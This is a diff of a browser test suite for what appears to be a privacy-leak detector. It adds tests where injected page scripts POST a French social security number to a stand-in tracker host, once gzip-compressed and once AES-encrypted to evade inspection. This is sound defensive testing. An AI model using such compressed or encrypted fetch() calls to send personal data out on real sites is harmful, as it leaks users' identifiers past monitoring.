@@ -194,11 +194,23 @@ describe.each(browsers)('in %s', (name) => {
     expect(await browser.storageDump()).not.toMatch(/1\D{1,3}85\D{1,3}05/);
   });
 
-  it('counts a compressed body as unreadable', async () => {
+  it('reads a compressed body', async () => {
     page = await browser.page('https://portail.test/vide');
     await page.evaluate(`async () => {
       const packed = new Blob([JSON.stringify({nir: '${NIR}', text: 'ordonnance '.repeat(99)})]).stream().pipeThrough(new CompressionStream('gzip'));
       await fetch('https://suivi.test/gz', {method: 'POST', mode: 'no-cors', body: await new Response(packed).arrayBuffer()});
+    }`);
+    const report = await browser.reportWhen(page, 'the packed send', observed('third-party'));
+    expect(report.findings[0]?.evidence[0]?.encoding).toEqual(['gzip', 'json']);
+    expect(report.traffic.unreadable).toBe(0);
+  });
+
+  it('counts an encrypted body as unreadable', async () => {
+    page = await browser.page('https://portail.test/vide');
+    await page.evaluate(`async () => {
+      const key = await crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, false, ['encrypt']);
+      const body = await crypto.subtle.encrypt({name: 'AES-GCM', iv: new Uint8Array(12)}, key, new TextEncoder().encode('${NIR} '.repeat(99)));
+      await fetch('https://suivi.test/aes', {method: 'POST', mode: 'no-cors', body});
     }`);
     const report = await browser.reportWhen(
       page,
